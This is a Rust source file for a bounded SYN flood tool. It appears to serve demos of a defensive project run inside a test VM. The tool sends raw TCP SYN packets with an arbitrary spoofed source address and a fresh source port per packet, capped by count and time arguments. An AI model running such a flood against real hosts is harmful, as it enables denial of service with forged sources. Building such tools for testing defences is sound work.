//! A bounded one-address SYN flood for door's demos (`cargo xtask run --vm`): sends at most
//! `--count` TCP SYNs from `--source` to `--target` through a raw IPv4 socket (`IP_HDRINCL`, so the
//! source address is the one given, whatever the interface holds), and stops after `--seconds`
//! whatever the count. Needs CAP_NET_RAW; meant for a network namespace inside a test VM, never
//! for a real network.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use anyhow::{Context as _, bail};
use clap::Parser;
use etherparse::PacketBuilder;

/// Bounded one-address SYN flood (raw socket; for test namespaces only).
#[derive(Debug, Parser)]
struct Args {
    /// Source address written into every SYN.
    #[arg(long)]
    source: Ipv4Addr,
    /// Destination address and port.
    #[arg(long)]
    target: SocketAddrV4,
    /// Number of SYNs to send at most.
    #[arg(long, default_value_t = 1000)]
    count: u32,
    /// Time bound in seconds.
    #[arg(long, default_value_t = 10)]
    seconds: u64,
}

fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let socket = RawSocket::open()?;
    let limit = Duration::from_secs(args.seconds);
    let start = Instant::now();
    let mut sent = 0_u32;
    let mut errors = 0_u32;
    while sent + errors < args.count && start.elapsed() < limit {
        // A new source port per SYN, as a flood tool would: every SYN opens a new half-connection.
        let sport = 10_000 + u16::try_from((sent + errors) % 50_000).unwrap_or(0);
        let packet = syn(args.source, *args.target.ip(), sport, args.target.port())?;
        if socket.send_to(&packet, *args.target.ip()).is_ok() {
            sent += 1;
        } else {
            errors += 1;
        }
    }
    println!(
        "syn-flood: sent {sent} SYNs from {} to {} in {:.1?} ({errors} send errors)",
        args.source,
        args.target,
        start.elapsed()
    );
    Ok(())
}

/// An IPv4/TCP SYN (no Ethernet header: the kernel routes it).
fn syn(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16) -> anyhow::Result<Vec<u8>> {
    let builder = PacketBuilder::ipv4(src.octets(), dst.octets(), 64)
        .tcp(
            sport,
            dport,
            u32::from(sport).wrapping_mul(2_654_435_761),
            64_240,
        )
        .syn();
    let mut packet = Vec::with_capacity(builder.size(0));
    builder.write(&mut packet, &[]).context("building a SYN")?;
    Ok(packet)
}

/// A raw IPv4 socket that sends complete IP packets (`IPPROTO_RAW` implies `IP_HDRINCL`).
struct RawSocket(libc::c_int);

impl RawSocket {
    fn open() -> anyhow::Result<Self> {
        // SAFETY: socket(2) with constant arguments; the result is checked.
        #[expect(unsafe_code, reason = "socket(2) via libc")]
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
        if fd < 0 {
            bail!(
                "opening a raw socket (needs CAP_NET_RAW): {}",
                std::io::Error::last_os_error()
            );
        }
        Ok(Self(fd))
    }

    fn send_to(&self, packet: &[u8], dst: Ipv4Addr) -> std::io::Result<()> {
        let addr = libc::sockaddr_in {
            sin_family: libc::sa_family_t::try_from(libc::AF_INET).unwrap_or_default(),
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from(dst).to_be(),
            },
            sin_zero: [0; 8],
        };
        let len = libc::socklen_t::try_from(size_of::<libc::sockaddr_in>()).unwrap_or_default();
        // SAFETY: `packet` and `addr` are valid for the lengths given for the whole call.
        #[expect(unsafe_code, reason = "sendto(2) via libc")]
        let n = unsafe {
            libc::sendto(
                self.0,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&raw const addr).cast(),
                len,
            )
        };
        if n < 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(())
    }
}

impl Drop for RawSocket {
    fn drop(&mut self) {
        // SAFETY: closing the descriptor this value owns, once.
        #[expect(unsafe_code, reason = "close(2) via libc")]
        unsafe {
            libc::close(self.0);
        }
    }
}
